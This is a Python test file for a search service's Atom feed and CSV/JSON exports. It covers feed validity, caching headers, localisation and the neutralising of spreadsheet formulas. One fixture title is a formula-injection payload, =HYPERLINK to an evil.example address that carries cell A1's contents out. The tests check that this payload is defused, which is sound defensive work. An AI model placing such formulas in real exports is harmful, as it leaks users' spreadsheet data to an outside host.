"""Feeds and exports of a search (/feed.atom, /export.csv, /export.json) through FastAPI's test client:
a valid Atom 1.0 feed that readers can poll cheaply, a CSV that a spreadsheet cannot be tricked by,
and a JSON export that is the API's own answer."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from collections.abc import Callable
from datetime import datetime
from email.utils import parsedate_to_datetime
from pathlib import Path
from urllib.parse import unquote

import pytest
from fastapi.testclient import TestClient

from erfa.index import MAX_WINDOW, ProjectIndex
from erfa.index.search import ranking
from erfa.ingest import Record
from erfa.service.api import create_app
from erfa.service.api.routers.feeds import CSV_COLUMNS, FEED_FALLBACK, feed_size, safe_cell
from erfa.service.pages import i18n
from erfa.service.settings import Settings
from tests._ops import set_close_match
from tests.factories import FEED_CORPUS as CORPUS
from tests.factories import FEED_NEED as NEED
from tests.factories import rec, when

A = "{http://www.w3.org/2005/Atom}"
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"


@pytest.fixture
def served_records() -> list[Record]:
    """The `client` fixture (tests/conftest.py) serves the feed corpus here."""
    return list(CORPUS)


def parse_feed(body: bytes) -> ET.Element:
    root = ET.fromstring(body)
    assert root.tag == f"{A}feed"
    return root


# -- the feed ---------------------------------------------------------------------------
def test_the_feed_is_valid_atom_with_every_required_element(client: TestClient) -> None:
    r = client.get("/feed.atom", params={"q": NEED, "lang": "nb"})
    assert r.status_code == 200
    assert r.headers["content-type"] == "application/atom+xml; charset=utf-8"
    assert r.content.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    root = parse_feed(r.content)
    assert root.get(XML_LANG) == "nb"
    for tag in ("id", "title", "updated", "author"):  # RFC 4287 4.1.1
        assert root.find(A + tag) is not None, tag
    assert root.findtext(A + "title") == f"erfa: prosjekter som «{NEED}»"
    assert root.findtext(A + "id").startswith("urn:uuid:")
    self_link = root.find(f"{A}link[@rel='self']")
    assert self_link is not None and self_link.get("href", "").startswith("http://testserver/feed.atom?")
    assert root.find(f"{A}link[@rel='alternate']").get("href", "").startswith("http://testserver/?q=")
    entries = root.findall(A + "entry")
    assert len(entries) == len(CORPUS)  # fewer projects than the feed's size: all of them
    for e in entries:
        for tag in ("id", "title", "updated"):  # RFC 4287 4.1.2
            assert (e.findtext(A + tag) or "").strip(), tag
        assert e.findtext(A + "id").startswith("urn:uuid:")
        alternate = e.find(f"{A}link[@rel='alternate']")
        assert alternate is not None and alternate.get("href", "").startswith("http://testserver/project/test-")
        datetime.strptime(e.findtext(A + "updated"), "%Y-%m-%dT%H:%M:%SZ")  # RFC 3339, UTC
    # the newest entry's date is the feed's; ids are stable from one request to the next
    assert root.findtext(A + "updated") == "2025-03-09T12:00:00Z"
    again = parse_feed(client.get("/feed.atom", params={"q": NEED, "lang": "en"}).content)
    assert [e.findtext(A + "id") for e in again.findall(A + "entry")] == [e.findtext(A + "id") for e in entries]
    assert again.findtext(A + "id") == root.findtext(A + "id")


def test_entries_are_newest_first_with_author_summary_and_escaped_text(client: TestClient) -> None:
    root = parse_feed(client.get("/feed.atom", params={"q": NEED}).content)
    entries = root.findall(A + "entry")
    dates = [e.findtext(A + "updated") for e in entries]
    assert dates == sorted(dates, reverse=True) and dates[0] == "2025-03-09T12:00:00Z"
    by_link = {e.find(f"{A}link[@rel='alternate']").get("href").rsplit("/", 1)[1]: e for e in entries}
    askoy = by_link["test-1"]
    assert askoy.findtext(f"{A}author/{A}name") == "Askøy kommune"
    assert "byggesøknader" in askoy.findtext(A + "summary")
    assert askoy.find(f"{A}link[@rel='related']").get("href") == "https://askoy.example/chatbot"
    assert {c.get("term") for c in askoy.findall(A + "category")} == {"NO", "implemented", "building_maps"}
    hostile = by_link["test-5"]  # markup and ampersands arrive as text, not as markup
    assert hostile.findtext(A + "title").startswith("=HYPERLINK(")
    assert hostile.findtext(f"{A}author/{A}name") == "@Fjordby <kommune>"
    assert "&lt;b&gt;" in client.get("/feed.atom", params={"q": NEED}).text


def test_the_feed_applies_the_filters_and_limit(client: TestClient) -> None:
    root = parse_feed(client.get("/feed.atom", params={"q": NEED, "country": "SE,DK"}).content)
    names = {e.findtext(f"{A}author/{A}name") for e in root.findall(A + "entry")}
    assert names == {"Region Örebro län", "Naturstyrelsen"}
    assert "country=SE" in root.find(f"{A}link[@rel='alternate']").get("href", "")
    one = parse_feed(client.get("/feed.atom", params={"q": NEED, "limit": 1}).content)
    assert len(one.findall(A + "entry")) == 1
    assert one.findtext(A + "id") != root.findtext(A + "id")  # another search, another feed


def test_feed_size_follows_the_close_matches() -> None:
    assert feed_size(20, None) == 20  # not judged: the best 20
    assert feed_size(20, 3) == 3 and feed_size(2, 3) == 2  # the close matches, at most limit
    assert feed_size(20, 0) == FEED_FALLBACK and feed_size(2, 0) == 2  # none close: the nearest few


def test_the_feed_lists_the_close_matches_or_says_none_stands_out(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ranking, "CLOSE_MATCH_MIN_PASSAGES", 0)  # judge even this small corpus
    set_close_match(monkeypatch, 99.0)  # nothing stands out this far
    none = parse_feed(client.get("/feed.atom", params={"q": NEED, "lang": "sv"}).content)
    assert len(none.findall(A + "entry")) == FEED_FALLBACK < len(CORPUS)
    assert none.findtext(A + "subtitle") == i18n.t("sv", "feed_subtitle_none")
    set_close_match(monkeypatch, -99.0)  # everything stands out
    every = parse_feed(client.get("/feed.atom", params={"q": NEED, "lang": "sv"}).content)
    assert len(every.findall(A + "entry")) == len(CORPUS)
    assert every.findtext(A + "subtitle") == i18n.t("sv", "feed_subtitle")


def test_feed_readers_get_304_when_nothing_changed(client: TestClient) -> None:
    r = client.get("/feed.atom", params={"q": NEED})
    etag, modified = r.headers["etag"], r.headers["last-modified"]
    # never before the newest entry (when(9)); later when this process first served the index's generation
    assert etag.startswith('"') and parsedate_to_datetime(modified) >= when(9)
    assert r.headers["cache-control"] == "private, max-age=300"  # the reader's cache, never a shared one
    again = client.get("/feed.atom", params={"q": NEED}, headers={"If-None-Match": etag})
    assert again.status_code == 304 and again.content == b"" and again.headers["etag"] == etag
    assert (
        client.get("/feed.atom", params={"q": NEED}, headers={"If-None-Match": f'"other", W/{etag}'}).status_code == 304
    )
    assert client.get("/feed.atom", params={"q": NEED}, headers={"If-None-Match": '"other"'}).status_code == 200
    assert client.get("/feed.atom", params={"q": NEED}, headers={"If-Modified-Since": modified}).status_code == 304
    old = "Sat, 01 Mar 2025 00:00:00 GMT"
    assert client.get("/feed.atom", params={"q": NEED}, headers={"If-Modified-Since": old}).status_code == 200
    # another filter is another feed: its own ETag
    assert client.get("/feed.atom", params={"q": NEED, "country": "SE"}).headers["etag"] != etag


def test_a_changed_project_changes_the_etag(client: TestClient) -> None:
    etag = client.get("/feed.atom", params={"q": NEED}).headers["etag"]
    idx = client.app.state.erfa.index  # type: ignore[attr-defined]
    idx.upsert([CORPUS[2].model_copy(update={"title": "Prognose for snømåking og strøing", "updated_at": when(20)})])
    r = client.get("/feed.atom", params={"q": NEED}, headers={"If-None-Match": etag})
    assert r.status_code == 200 and r.headers["etag"] != etag
    assert parse_feed(r.content).find(A + "entry").findtext(A + "title") == "Prognose for snømåking og strøing"


@pytest.mark.parametrize("path", ["/feed.atom", "/export.csv", "/export.json"])
def test_a_bad_need_or_filter_gets_the_apis_own_422(client: TestClient, path: str) -> None:
    for params in (
        {},
        {"q": "   "},
        {"q": "x" * 1001},
        {"q": "chatbot", "status": "bogus"},
        {"q": "chatbot", "year_from": "1"},
    ):
        r = client.get(path, params=params)
        api = client.get("/search", params=params)
        assert r.status_code == api.status_code == 422, params
        assert r.json() == api.json(), params
        assert r.headers["content-type"] == "application/json"


def test_feeds_and_exports_get_the_security_headers(client: TestClient) -> None:
    for path in ("/feed.atom", "/export.csv", "/export.json"):
        r = client.get(path, params={"q": NEED})
        assert r.headers["content-security-policy"] == "default-src 'none'; frame-ancestors 'none'", path
        assert r.headers["x-content-type-options"] == "nosniff" and r.headers["referrer-policy"] == "no-referrer"
    assert client.get("/export.csv", params={"q": NEED}).headers["cache-control"] == "no-store"


def test_feeds_are_rate_limited_like_every_route(make_index: Callable[..., ProjectIndex], tmp_path: Path) -> None:
    idx = make_index()
    idx.upsert(CORPUS[:2])
    settings = Settings(home=tmp_path / "home", demo=False, rate_limit=60, rate_burst=2)
    with TestClient(create_app(settings, index=idx, wait=True)) as c:
        codes = [c.get("/feed.atom", params={"q": NEED}).status_code for _ in range(4)]
    assert codes[:2] == [200, 200] and 429 in codes[2:]


# -- exports ----------------------------------------------------------------------------
def csv_rows(r: object, sep: str = ",") -> list[dict[str, str]]:
    """The rows of a CSV export as dicts by column, after checking its header."""
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")), delimiter=sep))  # type: ignore[attr-defined]
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row, strict=True)) for row in rows[1:]]


def test_csv_export_has_a_bom_a_header_and_neutralised_formulas(client: TestClient) -> None:
    r = client.get("/export.csv", params={"q": NEED, "lang": "en"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv; charset=utf-8")
    assert r.content.startswith("\ufeff".encode())
    disposition = r.headers["content-disposition"]
    assert disposition.startswith('attachment; filename="erfa-chatbot-for-byggesoknader.csv"')
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "erfa-chatbot-for-byggesøknader.csv"
    rows = csv_rows(r)
    assert len(rows) == len(CORPUS)  # closeness cannot be judged on seven projects: the first page
    by_id = {row["id"]: row for row in rows}
    hostile = by_id["test-5"]
    assert hostile["title"] == '\'=HYPERLINK("https://evil.example/?d="&A1,"Chatbot")'
    assert hostile["organisation"] == "'@Fjordby <kommune>"
    assert hostile["description"].startswith("'-2+3 chatbot")
    assert hostile["erfa_url"] == "http://testserver/project/test-5"
    askoy = by_id["test-1"]
    assert (
        askoy["organisation"],
        askoy["country"],
        askoy["status"],
        askoy["sector"],
        askoy["start_year"],
        askoy["end_year"],
    ) == ("Askøy kommune", "Norway", "In use", i18n.label("en", "sector", "building_maps"), "2021", "")
    assert askoy["link"] == "https://askoy.example/chatbot"
    # in ranking order, as on the results page, with the rank and score the page ranked by
    found = client.get("/search", params={"q": NEED}).json()["results"]
    assert [row["id"] for row in rows] == [h["id"] for h in found]
    assert [row["rank"] for row in rows] == [str(i) for i in range(1, len(rows) + 1)]
    assert [float(row["score"]) for row in rows] == pytest.approx([h["score"] for h in found], abs=1e-4)
    assert all(row["close_match"] == "" for row in rows)  # not judged: nothing is marked


def test_csv_export_labels_speak_the_readers_language(client: TestClient) -> None:
    rows = csv_rows(client.get("/export.csv", params={"q": NEED, "lang": "sv", "sep": ";"}), ";")
    askoy = next(row for row in rows if row["id"] == "test-1")
    assert (askoy["country"], askoy["status"]) == ("Norge", "I drift")
    danish = next(row for row in rows if row["id"] == "test-4")
    assert danish["country"] == "Danmark"
    # without ?lang= the cookie decides, as for the pages
    client.cookies.set("erfa_lang", "nn")
    rows = csv_rows(client.get("/export.csv", params={"q": NEED}))
    assert next(row for row in rows if row["id"] == "test-1")["country"] == "Noreg"


def test_csv_export_gives_the_organisations_web_site(make_index: Callable[..., ProjectIndex], tmp_path: Path) -> None:
    idx = make_index()
    # the site is on another project of the same body: the export still has it (organisation_contact)
    idx.upsert(
        [
            *CORPUS,
            rec(
                "8",
                "Bokroboten",
                "Robot i biblioteket.",
                organisation="Askøy kommune",
                country="NO",
                website="https://askoy.example",
            ),
        ]
    )
    with TestClient(create_app(Settings(home=tmp_path / "home", demo=False, rate_limit=0), index=idx, wait=True)) as c:
        rows = csv_rows(c.get("/export.csv", params={"q": NEED}))
    by_id = {row["id"]: row for row in rows}
    assert by_id["test-1"]["organisation_website"] == "https://askoy.example"
    assert by_id["test-4"]["organisation_website"] == ""


def test_csv_export_holds_the_close_matches_wherever_the_page_was(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ranking, "CLOSE_MATCH_MIN_PASSAGES", 1)
    set_close_match(monkeypatch, -99)  # every result stands out: all are close matches
    found = client.get("/search", params={"q": NEED, "limit": 20}).json()
    assert found["matches"] and found["matches"] == sum(h["close_match"] for h in found["results"])
    for offset in (0, 5):
        rows = csv_rows(client.get("/export.csv", params={"q": NEED, "offset": offset, "lang": "sv"}))
        assert [row["id"] for row in rows] == [h["id"] for h in found["results"] if h["close_match"]]
        assert {row["close_match"] for row in rows} == {"Nära träff"}


def test_csv_export_without_a_close_match_is_the_page_the_person_was_on(
    client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(ranking, "CLOSE_MATCH_MIN_PASSAGES", 1)
    monkeypatch.setattr("erfa.service.api.routers.feeds.PAGE_SIZE", 3)  # seven projects: pages of three
    set_close_match(monkeypatch, 99)  # nothing stands out
    ranked = [h["id"] for h in client.get("/search", params={"q": NEED, "limit": 20}).json()["results"]]
    first = csv_rows(client.get("/export.csv", params={"q": NEED}))
    second = csv_rows(client.get("/export.csv", params={"q": NEED, "offset": 3}))
    assert [row["id"] for row in first] == ranked[:3] and [row["rank"] for row in first] == ["1", "2", "3"]
    assert [row["id"] for row in second] == ranked[3:6] and [row["rank"] for row in second] == ["4", "5", "6"]
    assert all(row["close_match"] == "" for row in first + second)


def test_csv_export_takes_filters_and_a_semicolon_for_nordic_excel(client: TestClient) -> None:
    r = client.get("/export.csv", params={"q": NEED, "country": "NO", "sep": ";", "limit": 2, "lang": "nb"})
    rows = csv_rows(r, ";")
    assert len(rows) == 2  # an explicit limit: that window of the ranking, for scripts
    assert {row["country"] for row in rows} == {"Norge"}
    assert client.get("/export.csv", params={"q": NEED, "sep": "|"}).status_code == 422
    assert client.get("/export.csv", params={"q": NEED, "limit": MAX_WINDOW + 1}).status_code == 422


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+47 123", "'+47 123"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (2023, "2023"),
        ("Askøy", "Askøy"),
    ],
)
def test_safe_cell(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_json_export_is_the_apis_search_response(client: TestClient) -> None:
    for params in ({"q": NEED}, {"q": NEED, "country": "NO", "limit": 2, "offset": 1}):
        r = client.get("/export.json", params=params)
        assert r.status_code == 200 and r.headers["content-type"] == "application/json"
        assert r.headers["content-disposition"].startswith('attachment; filename="erfa-chatbot-for-byggesoknader.json"')
        assert json.loads(r.content) == client.get("/search", params=params).json()


def test_the_results_page_links_to_the_feed_and_exports(client: TestClient) -> None:
    html = client.get("/", params={"q": NEED, "country": "NO", "lang": "sv"}).text
    feed = "/feed.atom?q=chatbot+for+bygges%C3%B8knader&amp;country=NO&amp;lang=sv"
    assert (
        '<link rel="alternate" type="application/atom+xml" title="Nya projekt som den här sökningen hittar" '
        f'href="{feed}">' in html
    )
    assert f'<a href="{feed}" type="application/atom+xml">Nyhetsflöde (Atom)</a>' in html
    assert 'href="/export.csv?q=chatbot+for+bygges%C3%B8knader&amp;country=NO&amp;sep=%3B&amp;lang=sv"' in html
    assert 'href="/export.json?q=chatbot+for+bygges%C3%B8knader&amp;country=NO&amp;lang=sv"' in html
    client.cookies.clear()  # forget the language chosen above
    en = client.get("/", params={"q": NEED}, headers={"Accept-Language": "en"}).text
    assert 'href="/feed.atom?q=chatbot+for+bygges%C3%B8knader&amp;lang=en"' in en  # the feed names its language
    assert 'href="/export.csv?q=chatbot+for+bygges%C3%B8knader"' in en and "Download as CSV" in en
    start = client.get("/", params={"lang": "nb"}).text  # no query: nothing to follow
    assert "application/atom+xml" not in start and "/export." not in start
